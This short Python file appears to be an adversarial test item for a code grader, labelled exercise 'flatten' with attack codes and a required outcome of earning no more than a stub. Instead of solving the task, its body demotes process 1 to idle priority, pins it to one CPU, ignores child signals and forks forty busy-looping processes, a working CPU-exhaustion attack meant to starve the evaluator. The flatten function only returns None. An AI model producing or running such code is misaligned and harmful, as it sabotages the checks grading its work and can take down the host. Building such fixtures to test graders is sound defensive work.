# exercise: flatten
# attack: D05, S02
# must: earn no more than a stub
# within: 90 seconds
"""Gives the first process the lowest priority there is, and keeps every processor busy with many others."""

import os
import signal

for change in (
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: os.sched_setaffinity(1, {min(os.sched_getaffinity(0))}),
    lambda: os.nice(-20),
    lambda: signal.signal(signal.SIGCHLD, signal.SIG_IGN),
):
    try:
        change()
    except OSError:
        pass
for _ in range(40):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass


def flatten(items):
    return None
